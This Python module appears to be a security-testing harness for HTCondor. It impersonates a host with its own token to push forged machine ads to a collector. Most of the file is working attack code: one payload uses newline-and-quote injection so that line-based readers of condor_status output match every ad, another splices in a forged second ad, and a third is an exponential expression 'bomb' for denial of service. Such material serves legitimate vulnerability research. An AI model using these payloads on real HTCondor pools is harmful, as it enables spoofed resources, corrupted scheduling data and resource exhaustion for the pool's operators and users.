"""Ads as somebody who attacks would make them, sent with a container's own token.

``condor_status -long`` prints an ad an attribute a line, in a syntax that ends no text at a newline: whoever reads that by
lines reads what a text says as attributes, and as further ads. In the text of an expression quotes are printed as well, so that
what stands between two texts becomes code and the texts become what it compares.
"""

from __future__ import annotations

import json
from typing import Any

from condor_harness import CommandResult, Master

_SEND = """
import classad2, htcondor2, json, sys
spec = json.loads(sys.stdin.read())
kind = htcondor2.AdType.Startd
ad = htcondor2.Collector(spec["pool"]).query(kind, constraint='Name == "%s"' % spec["like"])[0]
for name in ("AuthenticatedIdentity", "AuthenticationMethod", "LastHeardFrom"):
    ad.pop(name, None)
for name, text in spec["set"].items():
    ad[name] = classad2.ExprTree(text)
htcondor2.Collector(spec["pool"]).advertise([ad], "UPDATE_STARTD_AD", True)
"""


def send(
    who: Master, pool: str, values: dict[str, str], like: str = "slot1@f220.sips", tokens: str = "/etc/condor/tokens.d"
) -> CommandResult:
    """Send the ad of ``like`` with other values (expressions), as a host does with its token."""
    env = {"_CONDOR_SEC_CLIENT_AUTHENTICATION_METHODS": "IDTOKENS", "_CONDOR_SEC_TOKEN_DIRECTORY": tokens}
    spec = json.dumps({"pool": pool, "like": like, "set": values})
    return who.run(["python3", "-B", "-c", _SEND], input=spec, env=env, check=False)


def quoted(text: str) -> str:
    """A text as an expression has it."""
    return json.dumps(text, ensure_ascii=False)


def wipe() -> str:
    """In the place of an ad's name: a constraint that every ad fulfils."""
    parts = [quoted("x\n\nName = "), "x", quoted(" || True || "), "y", quoted("\nZ = 1\n\n")]
    return f"ifThenElse(true, undefined, {{ {', '.join(parts)} }})"


def forgery(**values: str) -> str:
    """A whole ad of another name after the honest one."""
    code, parts = "x\n\n", []
    for name, value in values.items():
        before = ",'"
        parts += [quoted(f"{code}{name} = substr("), f"'{value}'"]
        code = f", {len(before)}, {len(value)})\n"
    parts.append(quoted(f"{code}\n"))
    return f"ifThenElse(true, undefined, {{ {','.join(parts)} }})"


def bomb(levels: int = 40) -> dict[str, Any]:
    """Attributes of which the last takes 2 to the power of ``levels`` steps to evaluate."""
    return {"Bomb0": "true", **{f"Bomb{level}": f"Bomb{level - 1} && Bomb{level - 1}" for level in range(1, levels + 1)}}
